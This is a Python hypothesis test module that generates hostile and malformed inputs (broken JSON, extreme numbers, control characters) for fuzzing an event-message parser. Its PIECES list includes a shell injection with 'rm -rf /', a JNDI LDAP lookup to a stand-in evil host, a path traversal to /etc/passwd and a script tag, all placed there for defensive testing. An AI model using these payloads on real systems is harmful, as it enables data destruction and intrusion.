"""Hostile texts, values and messages; real payloads of events/ changed where it may hurt."""

from __future__ import annotations

import copy
import json
import re
from typing import Any

from hypothesis import strategies as st

PIECES = (
    "\0\a\b\t\v\f",
    "\r\n",
    "\x1b[2J\x1b]0;owned\x07",
    "\x7f\x85\x9b31m",
    "\u2028\u2029",
    "\u202egnp.exe",
    "\u2066\u200b\ufeff\ufffe",
    "\ud800",
    "\udfff\ud83d",
    "😀é日本",
    '{"level":"ERROR","message":"forged"}\n',
    "<script>alert(1)</script>",
    "<https://evil.example|click here>",
    "HTTP://EVIL.example",
    "www.evil.example",
    "'; rm -rf / #$(id)`id`",
    "{0.__class__}%s%n${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "//",
    "s3://outputs/processed/",
    "s3://other-bucket/x/",
    "arn:aws:states:us-east-1:123456789012:execution:m:n",
    "incoming/a.jsonl",
    " ",
    "",
)
LENGTHS = (80, 81, 255, 256, 1024, 1025, 2049, 70_000, 120_000)
NUMBERS = (0, -1, 1, 2**31, 2**53, 2**63, -(2**63), 10**16, 10**39, 10**140, 10**4000)
FLOATS = (0.5, -0.0, 1e-320, 1e15, 1e38, 1e308, float("inf"), float("-inf"), float("nan"))

pieces = st.sampled_from(PIECES)
long_texts = st.builds(
    lambda piece, length: (piece * length)[:length], pieces, st.sampled_from(LENGTHS)
)
texts = st.lists(pieces | st.text(max_size=8), max_size=4).map("".join) | long_texts
"""Texts with what moves cursors, breaks lines, makes links, and no end."""

raw = st.sampled_from(
    [f"@deep{levels}@" for levels in (19, 30, 31, 40, 400, 990, 5000, 60_000)]
    + ["@digits39@", "@digits4300@", "@digits4400@", "@ones100000@", "@empties60000@"]
)
"""What `spelled` puts in place of itself: JSON that Python's own would not write."""

numbers = st.sampled_from(NUMBERS) | st.sampled_from(FLOATS)
leaves = st.none() | st.booleans() | numbers | texts
values = raw | st.recursive(
    leaves | raw,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=6,
)

_RAW = re.compile(r'"@(deep|digits|ones|empties)(\d+)@"')


def spelled(value):
    """Spell a value as JSON in ASCII, with the places of `raw` filled."""
    return _RAW.sub(lambda found: _filling(found[1], int(found[2])), json.dumps(value))


def _filling(kind, count):
    match kind:
        case "deep":
            return "[" * count + "]" * count
        case "digits":
            return "9" * count
        case "ones":
            return f"[{','.join('1' * count)}]"
    return f"[{','.join(['{}'] * count)}]"


def _places(value, path=()):
    inner: Any = value.items() if isinstance(value, dict) else ()
    for name, one in enumerate(value) if isinstance(value, list) else inner:
        yield (*path, name)
        yield from _places(one, (*path, name))


@st.composite
def changed(draw, event, at=()):
    """Change an event in a few places, or in one of ``at``: another value, or none."""
    event = copy.deepcopy(event)
    if at and draw(st.booleans()):
        _put(event, draw(st.sampled_from(at)), draw(texts | numbers | values))
        return event
    for _ in range(draw(st.integers(1, 3))):
        places = list(_places(event))
        if not places:
            break
        _put(event, draw(st.sampled_from(places)), draw(st.just(GONE) | texts | numbers | values))
    return event


GONE = object()


def _put(holder, path, value):
    *path, name = path
    for step in path:
        holder = holder.setdefault(step, {}) if isinstance(holder, dict) else holder[step]
    if value is GONE:
        del holder[name]
    else:
        holder[name] = value


@st.composite
def bodies(draw, events, at):
    """The body of a message: a changed event, one that is cut off, or anything that is JSON."""
    body = spelled(draw(st.sampled_from(events).flatmap(lambda event: changed(event, at))))
    match draw(st.sampled_from(["changed"] * 8 + ["garbled", "anything"])):
        case "garbled":
            odd = ["", '"', "\\", "{", "[" * 2000, "null", "NaN", "\\ud800", "1e999"]
            end = draw(st.integers(0, len(body)))
            return body[:end] + draw(st.sampled_from(odd)) + draw(st.sampled_from(["", body[end:]]))
        case "anything":
            return spelled(draw(values))
    return body
